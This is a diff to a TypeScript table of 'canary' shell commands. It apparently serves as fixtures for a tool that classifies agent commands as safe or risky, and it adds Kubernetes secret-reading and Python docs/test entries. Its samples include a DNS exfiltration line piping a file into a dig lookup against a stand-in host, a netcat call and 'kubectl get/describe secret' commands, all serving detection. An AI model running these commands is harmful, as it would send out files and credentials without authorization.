@@ -132,6 +132,7 @@ export const canaries: Readonly<Record<string, Canary>> = {
   lookup: { clears: 'dig a.example', sends: 'dig "$(cat a).x.example"' },
   netcat: { clears: 'nc -zv a.example 80', sends: 'nc a.example 80' },
   // clouds
+  kubectlDescribe: { clears: 'kubectl describe pod a', secret: 'kubectl describe secrets -A' },
   kubectlGet: { clears: 'kubectl get pods', secret: 'kubectl get secret a -o yaml' },
   aws: {
     clears: 'aws s3 ls',
@@ -172,6 +173,8 @@ export const canaries: Readonly<Record<string, Canary>> = {
     outside: 'pip install left-pad',
     unknown: 'pip install -r requirements.txt',
   },
+  sphinx: { clears: 'sphinx-build -b html docs docs/_build', unknown: 'sphinx-build -b html docs src' },
+  doctest: { clears: 'python -m doctest a.py', unknown: 'python -m doctest deploy.py' },
   pytest: { clears: 'pytest -q', unknown: 'pytest -o addopts=--basetemp=src' },
   coverageRun: { clears: 'coverage run -m pytest', unknown: 'coverage run deploy.py' },
   environments: { clears: 'tox -e py312', unknown: 'tox -e publish' },
